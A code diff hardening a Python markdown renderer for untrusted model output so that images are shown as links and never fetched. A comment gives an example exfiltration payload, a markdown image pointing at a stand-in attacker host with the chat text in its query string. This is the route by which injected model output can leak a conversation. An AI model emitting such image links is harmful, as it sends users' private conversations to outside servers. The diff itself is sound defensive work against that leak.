@@ -1,4 +1,5 @@
-"""Markdown for untrusted model output: no raw HTML, highlighted code with a copy button."""
+"""Markdown for untrusted model output: no raw HTML, images shown as links (never
+fetched), highlighted code with a copy button."""
 
 from __future__ import annotations
 
@@ -33,6 +34,25 @@ def _link(*children, **props) -> rx.Component:
     return rx.link(*children, is_external=True, rel="noopener noreferrer nofollow", **props)
 
 
+# Inside a markdown component map, `props` holds the element's attributes (src, alt, ...).
+_IMAGE_SRC = rx.Var(_js_expr="props.src", _var_type=str)
+_IMAGE_ALT = rx.Var(_js_expr="(props.alt || 'image')", _var_type=str)
+
+
+def _image(*children, **props) -> rx.Component:
+    # Never load a model's images: `![](https://evil.example/?q=<chat text>)` would send
+    # the conversation to any server just by rendering. Show a link the user can choose.
+    return rx.link(
+        rx.icon("image", size=14),
+        _IMAGE_ALT,
+        href=_IMAGE_SRC,
+        is_external=True,
+        rel="noopener noreferrer nofollow",
+        class_name="md-image-link",
+        title="Image (not loaded)",
+    )
+
+
 def safe_markdown(text: rx.Var | str, **props) -> rx.Component:
     """Render `text` as markdown with raw HTML OFF: tags show as text and never run."""
     return rx.markdown(
@@ -40,7 +60,7 @@ def safe_markdown(text: rx.Var | str, **props) -> rx.Component:
         use_raw=False,
         use_katex=False,
         use_math=False,
-        component_map={"pre": _code_block, "a": _link},
+        component_map={"pre": _code_block, "a": _link, "img": _image},
         class_name="chat-markdown",
         **props,
     )
